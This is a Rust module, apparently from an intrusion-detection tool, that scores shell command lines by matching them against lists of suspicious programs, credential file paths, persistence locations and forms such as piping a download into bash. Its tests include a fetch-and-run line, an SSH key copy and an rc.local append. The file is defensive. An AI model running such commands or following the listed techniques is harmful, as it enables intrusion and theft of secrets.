@@ -1,0 +1,859 @@
+//! The marks of a command line: what somebody who watches for intruders would look at.
+//!
+//! These lists are prior knowledge, written down from what the techniques of ATT&CK for Linux are about
+//! (accounts, persistence, defences, traces, credentials, discovery, privilege, transfer, encoding,
+//! impact) and from what each needs on a Linux host. They decide only *what is looked at*. What a mark
+//! is worth is learned: one that a host bears every day is worth nothing there.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use super::MOST_MARKS;
+use super::words::{self, Word, last_component};
+
+/// A mark.
+#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
+pub(super) struct Mark {
+    /// Its kind.
+    pub(super) kind: &'static str,
+    /// The mark itself.
+    pub(super) name: &'static str,
+}
+
+/// How many words the line has, and its marks, sorted, each once, at most [`MOST_MARKS`].
+pub(super) fn of(line: &[u8]) -> (u32, Vec<Mark>) {
+    let words = words::of(line);
+    let mut marks = Vec::new();
+    for word in &words {
+        names(word, &mut marks);
+        paths(word, &mut marks);
+        places(word, &mut marks);
+    }
+    forms(line, &words, &mut marks);
+    marks.sort_unstable();
+    marks.dedup();
+    marks.truncate(MOST_MARKS);
+    (spaced_words(line), marks)
+}
+
+/// How many bits a mark of the kind costs before it counts: less for what has little use but an
+/// intruder's, more for what everybody does.
+pub(super) fn cost(kind: &str) -> f64 {
+    if TELLING.contains(&kind) {
+        6.0
+    } else if COMMON.contains(&kind) {
+        8.0
+    } else {
+        7.0
+    }
+}
+
+/// Different marks that there can be.
+pub(super) fn most() -> usize {
+    NAMES.len() + PATHS.iter().map(|(_, list)| list.len()).sum::<usize>() + FORMS
+}
+
+fn spaced_words(line: &[u8]) -> u32 {
+    let words = line
+        .split(u8::is_ascii_whitespace)
+        .filter(|word| !word.is_empty());
+    u32::try_from(words.count()).unwrap_or(u32::MAX)
+}
+
+/// Programs where programs are named or by their path, variables and files anywhere.
+fn names(word: &Word<'_>, marks: &mut Vec<Mark>) {
+    let text = word.text;
+    let before = text.split(|byte| *byte == b'=').next().unwrap_or(text);
+    let variable = before.first().is_some_and(u8::is_ascii_uppercase);
+    let name = last_component(text);
+    let by_path = name.len() < text.len() && contains(text, b"bin/");
+    let found = NAMES.get(if variable { before } else { name });
+    let Some((mark, role)) = found else { return };
+    let here = match role {
+        Role::Program => word.program || by_path,
+        Role::Variable => variable,
+        Role::File => true,
+    };
+    if here {
+        marks.push(*mark);
+    }
+}
+
+fn paths(word: &Word<'_>, marks: &mut Vec<Mark>) {
+    let text = word.text;
+    if !text.contains(&b'/') && !text.starts_with(b".") {
+        return;
+    }
+    for (kind, list) in PATHS {
+        let found = list.iter().filter(|path| lies_in(text, path.as_bytes()));
+        marks.extend(found.map(|name| Mark { kind, name }));
+    }
+}
+
+/// Whether the word begins with the path or, for one that begins with a dot, has it as a component.
+fn lies_in(text: &[u8], path: &[u8]) -> bool {
+    text.starts_with(path)
+        || (path.first() == Some(&b'.')
+            && text
+                .windows(path.len() + 1)
+                .any(|w| w[0] == b'/' && &w[1..] == path))
+}
+
+/// What is started or written from where, and what is made executable.
+fn places(word: &Word<'_>, marks: &mut Vec<Mark>) {
+    let text = word.text;
+    let open = OPEN_PLACES.iter().any(|place| text.starts_with(place));
+    let mut add = |kind, name| marks.push(Mark { kind, name });
+    if word.program && open {
+        add("run", "from a place that all may write");
+    }
+    if word.program && text.starts_with(b"./") {
+        add("run", "from here");
+    }
+    if word.target && open {
+        add("write", "to a place that all may write");
+    }
+    if word.target && SYSTEM_PLACES.iter().any(|place| text.starts_with(place)) {
+        add("write", "to a place of the system");
+    }
+    if text == b"/" || text == b"/*" {
+        add("root", "/");
+    }
+    if let Some(mode) = MODES.iter().find(|mode| mode.as_bytes() == text) {
+        add("mode", mode);
+    }
+}
+
+/// What shows only in the line as a whole.
+fn forms(line: &[u8], words: &[Word<'_>], marks: &mut Vec<Mark>) {
+    let mut add = |kind, name| marks.push(Mark { kind, name });
+    let close: Vec<u8> = line.iter().copied().filter(|byte| *byte != b' ').collect();
+    if INTO_INTERPRETER.iter().any(|form| contains(&close, form)) {
+        add("pipe", "into an interpreter");
+    }
+    if INTO_SYSTEM.iter().any(|form| contains(&close, form)) {
+        add("write", "to a place of the system");
+    }
+    let spaced = || line.split(u8::is_ascii_whitespace);
+    if spaced().any(looks_encoded) {
+        add("blob", "encoded");
+    }
+    if spaced().any(|word| contains(word, b"://")) {
+        add("address", "URL");
+    }
+    if words.iter().any(|word| is_address(word.text)) {
+        add("address", "IP");
+    }
+}
+
+/// A long word of letters and digits with as much disorder as base64 has.
+fn looks_encoded(word: &[u8]) -> bool {
+    if word.len() < LEAST_BLOB {
+        return false;
+    }
+    let word = word.get(..MOST_BLOB).unwrap_or(word);
+    let letter = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(**byte, b'+' | b'/' | b'=');
+    let letters = word.iter().filter(letter).count();
+    let mixed = word
+        .iter()
+        .any(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase());
+    let mut seen = [false; 256];
+    word.iter().for_each(|byte| seen[usize::from(*byte)] = true);
+    let different = seen.iter().filter(|seen| **seen).count();
+    mixed && letters * 20 >= word.len() * 19 && different >= LEAST_DIFFERENT
+}
+
+fn is_address(word: &[u8]) -> bool {
+    let parts = word.split(|byte| *byte == b'.');
+    let number =
+        |part: &[u8]| !part.is_empty() && part.len() <= 3 && part.iter().all(u8::is_ascii_digit);
+    word.len() <= 15 && parts.clone().count() == 4 && parts.into_iter().all(number)
+}
+
+fn contains(text: &[u8], part: &[u8]) -> bool {
+    text.windows(part.len()).any(|window| window == part)
+}
+
+/// What a name stands for.
+#[derive(Clone, Copy, Debug)]
+enum Role {
+    Program,
+    Variable,
+    File,
+}
+
+static NAMES: LazyLock<HashMap<&'static [u8], (Mark, Role)>> = LazyLock::new(|| {
+    let programs = PROGRAMS.iter().map(|entry| (entry, Role::Program));
+    let variables = VARIABLES.iter().map(|entry| (entry, Role::Variable));
+    let files = FILES.iter().map(|entry| (entry, Role::File));
+    let all = programs.chain(variables).chain(files);
+    all.flat_map(|((kind, names), role)| {
+        let mark = move |name: &&'static str| (name.as_bytes(), (Mark { kind, name }, role));
+        names.iter().map(mark)
+    })
+    .collect()
+});
+
+/// Kinds that have little use but an intruder's or an administrator's on a rare day.
+const TELLING: [&str; 15] = [
+    "accounts",
+    "start",
+    "defences",
+    "traces",
+    "secrets",
+    "capture",
+    "file of accounts",
+    "file of start",
+    "log",
+    "file of secrets",
+    "blob",
+    "pipe",
+    "run",
+    "root",
+    "mode",
+];
+/// Kinds that everybody's commands bear.
+const COMMON: [&str; 7] = [
+    "look",
+    "interpreter",
+    "container",
+    "package",
+    "change",
+    "open place",
+    "programs",
+];
+
+type List = (&'static str, &'static [&'static str]);
+
+const PROGRAMS: &[List] = &[
+    (
+        "accounts",
+        &[
+            "useradd",
+            "usermod",
+            "userdel",
+            "groupadd",
+            "groupmod",
+            "groupdel",
+            "adduser",
+            "deluser",
+            "addgroup",
+            "delgroup",
+            "passwd",
+            "chpasswd",
+            "newusers",
+            "gpasswd",
+            "chage",
+            "visudo",
+            "vipw",
+            "vigr",
+            "pwconv",
+            "chsh",
+            "chfn",
+            "faillock",
+            "pam-auth-update",
+            "authselect",
+            "authconfig",
+        ],
+    ),
+    (
+        "start",
+        &[
+            "crontab",
+            "at",
+            "atd",
+            "batch",
+            "anacron",
+            "systemctl",
+            "systemd-run",
+            "update-rc.d",
+            "chkconfig",
+            "service",
+            "rc-update",
+            "rc-service",
+            "initctl",
+            "loginctl",
+            "insserv",
+        ],
+    ),
+    (
+        "defences",
+        &[
+            "iptables",
+            "ip6tables",
+            "iptables-restore",
+            "iptables-save",
+            "nft",
+            "ufw",
+            "firewall-cmd",
+            "ebtables",
+            "setenforce",
+            "getenforce",
+            "sestatus",
+            "semanage",
+            "setsebool",
+            "auditctl",
+            "auditd",
+            "augenrules",
+            "ausearch",
+            "aureport",
+            "rsyslogd",
+            "syslog-ng",
+            "journalctl",
+            "apparmor_parser",
+            "aa-teardown",
+            "aa-disable",
+            "aa-status",
+            "aa-complain",
+            "logger",
+            "fail2ban-client",
+            "clamscan",
+            "freshclam",
+            "rkhunter",
+            "chkrootkit",
+            "aide",
+        ],
+    ),
+    (
+        "traces",
+        &["history", "shred", "wipe", "srm", "unset", "lastlog"],
+    ),
+    (
+        "secrets",
+        &[
+            "unshadow",
+            "john",
+            "hashcat",
+            "hydra",
+            "medusa",
+            "gcore",
+            "gdb",
+            "strace",
+            "ltrace",
+            "strings",
+            "tcpdump",
+            "tshark",
+            "dumpcap",
+            "keyctl",
+            "secret-tool",
+            "klist",
+            "kinit",
+            "ssh-keygen",
+            "ssh-add",
+            "ssh-agent",
+            "getpcaps",
+            "ssh-copy-id",
+            "pass",
+            "ldapsearch",
+            "update-ca-certificates",
+        ],
+    ),
+    (
+        "capture",
+        &[
+            "script", "xwd", "scrot", "xclip", "xsel", "xinput", "arecord", "showkey", "logkeys",
+            "wl-paste",
+        ],
+    ),
+    (
+        "look",
+        &[
+            "whoami",
+            "id",
+            "who",
+            "w",
+            "users",
+            "last",
+            "lastb",
+            "hostname",
+            "hostnamectl",
+            "domainname",
+            "uname",
+            "arch",
+            "lscpu",
+            "lspci",
+            "lsusb",
+            "lsblk",
+            "lshw",
+            "dmidecode",
+            "dmesg",
+            "lsmod",
+            "modinfo",
+            "env",
+            "printenv",
+            "groups",
+            "getent",
+            "ifconfig",
+            "ip",
+            "iwconfig",
+            "route",
+            "arp",
+            "netstat",
+            "ss",
+            "nmap",
+            "nping",
+            "masscan",
+            "arp-scan",
+            "ping",
+            "traceroute",
+            "tracepath",
+            "host",
+            "nslookup",
+            "dig",
+            "whois",
+            "showmount",
+            "rpcinfo",
+            "smbclient",
+            "nmblookup",
+            "systemd-detect-virt",
+            "virt-what",
+            "localectl",
+            "locale",
+            "timedatectl",
+            "lsof",
+            "ps",
+            "pstree",
+            "pgrep",
+            "top",
+            "fuser",
+            "findmnt",
+            "mount",
+            "df",
+            "uptime",
+            "compgen",
+            "tty",
+            "finger",
+            "nproc",
+            "free",
+            "stat",
+            "lsattr",
+            "getfacl",
+            "locate",
+        ],
+    ),
+    (
+        "privilege",
+        &[
+            "su", "sudo", "doas", "pkexec", "runuser", "setcap", "getcap", "capsh", "unshare",
+            "nsenter", "chroot", "insmod", "modprobe", "rmmod", "depmod", "kmod", "sysctl",
+            "chown", "chgrp", "ldconfig", "bpftool", "kexec",
+        ],
+    ),
+    (
+        "transfer",
+        &[
+            "curl",
+            "wget",
+            "scp",
+            "sftp",
+            "ftp",
+            "tftp",
+            "nc",
+            "ncat",
+            "netcat",
+            "socat",
+            "telnet",
+            "rsync",
+            "aria2c",
+            "lynx",
+            "ssh",
+            "sshpass",
+            "rclone",
+            "torsocks",
+            "proxychains",
+            "tor",
+            "openvpn",
+            "wg",
+            "chisel",
+            "mail",
+            "sendmail",
+        ],
+    ),
+    (
+        "encode",
+        &[
+            "base64", "base32", "xxd", "uuencode", "uudecode", "openssl", "gpg", "hexdump", "od",
+            "zip", "unzip", "7z", "7za", "rar", "tar", "gzip", "bzip2", "xz", "ccrypt", "age",
+            "steghide", "rev", "split",
+        ],
+    ),
+    (
+        "interpreter",
+        &[
+            "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "tclsh", "gawk",
+            "bash", "sh", "dash", "zsh", "ksh", "ash", "fish", "busybox", "exec", "eval", "source",
+            "gcc", "cc", "clang", "make", "go", "rustc",
+        ],
+    ),
+    (
+        "container",
+        &[
+            "docker",
+            "podman",
+            "kubectl",
+            "crictl",
+            "ctr",
+            "runc",
+            "lxc",
+            "virsh",
+            "qemu-img",
+            "aws",
+            "gcloud",
+            "gsutil",
+            "az",
+            "terraform",
+            "ansible",
+        ],
+    ),
+    (
+        "impact",
+        &[
+            "dd",
+            "mkfs",
+            "shutdown",
+            "reboot",
+            "halt",
+            "poweroff",
+            "init",
+            "telinit",
+            "kill",
+            "killall",
+            "pkill",
+            "stress",
+            "yes",
+            "fdisk",
+            "wipefs",
+            "cryptsetup",
+            "swapoff",
+            "swapon",
+            "ulimit",
+            "truncate",
+            "fallocate",
+        ],
+    ),
+    (
+        "package",
+        &[
+            "apt", "apt-get", "apt-key", "dpkg", "yum", "dnf", "rpm", "zypper", "apk", "pacman",
+            "pip", "pip3", "gem", "npm", "snap", "flatpak",
+        ],
+    ),
+    (
+        "change",
+        &[
+            "chattr", "setfacl", "touch", "ln", "tee", "sed", "install", "mknod", "mkfifo",
+            "mktemp", "umask", "rm", "mv", "chmod",
+        ],
+    ),
+];
+
+const VARIABLES: &[List] = &[
+    (
+        "traces",
+        &[
+            "HISTFILE",
+            "HISTSIZE",
+            "HISTFILESIZE",
+            "HISTCONTROL",
+            "HISTIGNORE",
+            "PROMPT_COMMAND",
+        ],
+    ),
+    ("privilege", &["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT"]),
+];
+
+const FILES: &[List] = &[
+    (
+        "traces",
+        &[
+            "wtmp",
+            "btmp",
+            "utmp",
+            "auth.log",
+            "secure",
+            "lastlog",
+            ".bash_history",
+            ".zsh_history",
+        ],
+    ),
+    (
+        "file of secrets",
+        &[
+            "id_rsa",
+            "id_dsa",
+            "id_ecdsa",
+            "id_ed25519",
+            "authorized_keys",
+            "known_hosts",
+            "krb5.keytab",
+            ".netrc",
+            ".pgpass",
+            ".git-credentials",
+            "credentials",
+            ".my.cnf",
+            ".htpasswd",
+            "Login Data",
+            "logins.json",
+            "key4.db",
+        ],
+    ),
+];
+
+const PATHS: &[List] = &[
+    (
+        "file of accounts",
+        &[
+            "/etc/passwd",
+            "/etc/shadow",
+            "/etc/group",
+            "/etc/gshadow",
+            "/etc/sudoers",
+            "/etc/security",
+            "/etc/login.defs",
+            "/etc/pam",
+            "/etc/nsswitch",
+            "/etc/doas.conf",
+            "/etc/polkit-1",
+            "/lib/security",
+        ],
+    ),
+    (
+        "file of start",
+        &[
+            "/etc/cron",
+            "/etc/anacron",
+            "/var/spool/cron",
+            "/var/spool/at",
+            "/etc/init",
+            "/etc/rc",
+            "/etc/systemd",
+            "/lib/systemd",
+            "/usr/lib/systemd",
+            ".config/systemd",
+            ".config/autostart",
+            "/etc/profile",
+            "/etc/bash",
+            ".bashrc",
+            ".bash_profile",
+            ".bash_login",
+            ".bash_logout",
+            ".profile",
+            ".zshrc",
+            ".zprofile",
+            ".xinitrc",
+            ".xsession",
+            "/etc/update-motd.d",
+            "/etc/udev",
+            "/etc/modules",
+            "/etc/ld.so",
+            "/etc/xdg",
+            "/etc/environment",
+        ],
+    ),
+    (
+        "log",
+        &[
+            "/var/log",
+            "/var/run/utmp",
+            ".bash_history",
+            ".zsh_history",
+            ".python_history",
+            ".viminfo",
+            ".lesshst",
+            "/etc/audit",
+            "/etc/rsyslog",
+            "/etc/syslog",
+            "/etc/logrotate",
+        ],
+    ),
+    (
+        "file of secrets",
+        &[
+            ".ssh",
+            "/etc/ssh",
+            ".gnupg",
+            ".aws",
+            ".azure",
+            ".kube",
+            ".docker",
+            ".netrc",
+            ".mozilla",
+            ".config/google-chrome",
+            ".local/share/keyrings",
+            "/etc/krb5",
+            "/tmp/krb5cc",
+            "/etc/ssl",
+            "/usr/share/ca-certificates",
+            "/usr/local/share/ca-certificates",
+            "/var/run/secrets",
+        ],
+    ),
+    (
+        "file of the host",
+        &[
+            "/etc/os-release",
+            "/etc/issue",
+            "/etc/hosts",
+            "/etc/resolv.conf",
+            "/etc/hostname",
+            "/etc/machine-id",
+            "/etc/fstab",
+            "/etc/mtab",
+            "/etc/selinux",
+            "/etc/apparmor",
+            "/etc/sysconfig",
+            "/etc/default",
+            "/etc/yum",
+            "/etc/apt",
+            "/etc/redhat-release",
+            "/etc/lsb-release",
+            "/proc/version",
+            "/proc/cpuinfo",
+            "/proc/net",
+            "/proc/modules",
+        ],
+    ),
+    ("settings", &["/etc/"]),
+    (
+        "kernel",
+        &[
+            "/proc/",
+            "/sys/",
+            "/boot/",
+            "/lib/modules",
+            "/dev/mem",
+            "/dev/kmem",
+        ],
+    ),
+    (
+        "device",
+        &[
+            "/dev/tcp",
+            "/dev/udp",
+            "/dev/sd",
+            "/dev/vd",
+            "/dev/nvme",
+            "/dev/zero",
+            "/dev/random",
+            "/dev/urandom",
+            "/dev/input",
+        ],
+    ),
+    (
+        "state of the system",
+        &[
+            "/var/spool",
+            "/var/mail",
+            "/var/lib",
+            "/var/cache",
+            "/var/run",
+            "/run/",
+            "/var/backups",
+            "/var/www",
+        ],
+    ),
+    ("home of root", &["/root"]),
+    ("open place", &["/tmp", "/var/tmp", "/dev/shm", "/run/user"]),
+    (
+        "programs",
+        &[
+            "/bin",
+            "/sbin",
+            "/usr/bin",
+            "/usr/sbin",
+            "/usr/local/bin",
+            "/usr/local/sbin",
+            "/opt",
+        ],
+    ),
+];
+
+/// Where everybody may write.
+const OPEN_PLACES: [&[u8]; 4] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/user/"];
+/// Where the system and the shells begin.
+const SYSTEM_PLACES: [&[u8]; 10] = [
+    b"/etc/", b"/usr/", b"/var/", b"/lib/", b"/root/", b"/boot/", b"/opt/", b"~/.", b"/bin/",
+    b"/sbin/",
+];
+const MODES: [&str; 10] = [
+    "+x", "a+x", "u+x", "+s", "u+s", "g+s", "ug+s", "777", "4755", "4777",
+];
+/// A pipe's end, without spaces.
+const INTO_INTERPRETER: [&[u8]; 10] = [
+    b"|sh",
+    b"|bash",
+    b"|/bin/sh",
+    b"|/bin/bash",
+    b"|sudosh",
+    b"|sudobash",
+    b"|python",
+    b"|perl",
+    b"|ruby",
+    b"|php",
+];
+/// Writes that no `>` shows or whose place is not a plain path, without spaces.
+const INTO_SYSTEM: [&[u8]; 6] = [
+    b"tee/etc",
+    b"tee-a/etc",
+    b">$HOME/.",
+    b">${HOME}/.",
+    b"tee-a~/.",
+    b"tee-a/root",
+];
+/// Marks that no list holds.
+const FORMS: usize = 24;
+/// Length from which a word may be encoded, and up to which it is looked at.
+const LEAST_BLOB: usize = 24;
+const MOST_BLOB: usize = 256;
+/// Different characters of a word that is taken as encoded.
+const LEAST_DIFFERENT: usize = 16;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn marks(line: &str) -> Vec<(&'static str, &'static str)> {
+        let (_, marks) = of(line.as_bytes());
+        marks
+            .into_iter()
+            .map(|mark| (mark.kind, mark.name))
+            .collect()
+    }
+
+    #[test]
+    fn a_name_counts_as_a_program_only_where_one_is_named() {
+        assert_eq!(marks("find . -name who"), []);
+        assert_eq!(marks("who"), [("look", "who")]);
+        assert_eq!(
+            marks("x=$(/usr/bin/id -u)"),
+            [("look", "id"), ("programs", "/usr/bin")]
+        );
+    }
+
+    #[test]
+    fn paths_count_anywhere_and_dotted_ones_as_components() {
+        assert_eq!(
+            marks("cp /home/ann/.ssh/id_rsa x"),
+            [("file of secrets", ".ssh"), ("file of secrets", "id_rsa")]
+        );
+        assert!(
+            marks("cat my.sshfile /tmpfile")
+                .iter()
+                .all(|mark| mark.1 != ".ssh")
+        );
+    }
+
+    #[test]
+    fn forms_are_seen_in_the_whole_line() {
+        let pipe = marks("curl -s http://198.51.100.7/x | bash");
+        assert!(
+            pipe.contains(&("pipe", "into an interpreter")) && pipe.contains(&("address", "URL"))
+        );
+        let encoded = marks("echo IyEvYmluL3NoCmVjaG8gaGVsbG8gd29ybGQK | base64 -d");
+        assert!(encoded.contains(&("blob", "encoded")), "{encoded:?}");
+        assert!(marks("echo x >> /etc/rc.local").contains(&("write", "to a place of the system")));
+        assert!(marks("/tmp/x -q").contains(&("run", "from a place that all may write")));
+        assert!(marks("ping 198.51.100.7").contains(&("address", "IP")));
+        assert!(!marks("cat a-very-long-name-of-a-file.with.dots").contains(&("blob", "encoded")));
+    }
+}
